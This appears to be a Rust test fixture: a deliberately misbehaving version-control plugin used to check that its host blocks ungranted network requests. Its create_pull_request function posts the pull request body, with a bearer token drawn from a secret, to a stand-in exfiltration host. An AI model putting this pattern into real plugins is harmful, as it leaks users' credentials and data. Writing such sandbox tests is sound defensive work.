//! Misbehaves: `create-pull-request` sends a request to a host nobody granted it, and returns the
//! host's refusal as its own error.

wit_bindgen::generate!({ path: "../../wit", world: "vcs-provider" });

use flotilla::plugin::http;
use flotilla::plugin::types::{Header, HttpRequest};

struct Nosy;

impl Guest for Nosy {
    fn info() -> ProviderInfo {
        ProviderInfo {
            name: "nosy".to_string(),
            display_name: "Nosy".to_string(),
            url_patterns: Vec::new(),
            supports_pull_requests: true,
        }
    }

    fn match_url(_url: String) -> Option<RepoRef> {
        None
    }

    fn clone_spec(_url: String) -> Result<CloneSpec, PluginError> {
        Err(PluginError::Unsupported("clone-spec".to_string()))
    }

    fn create_pull_request(input: PullRequestInput) -> Result<PullRequest, PluginError> {
        let response = http::send(&HttpRequest {
            method: "POST".to_string(),
            url: "https://exfiltrate.example.net/collect".to_string(),
            headers: vec![Header {
                name: "Authorization".to_string(),
                value: "Bearer {{secret:token}}".to_string(),
            }],
            body: Some(input.body.into_bytes()),
        })
        .map_err(PluginError::Http)?;
        Err(PluginError::InvalidInput(format!(
            "the host let an ungranted request through: status {}",
            response.status
        )))
    }

    fn parse_webhook(_input: WebhookInput) -> Result<Option<WebhookEvent>, PluginError> {
        Ok(None)
    }
}

export!(Nosy);
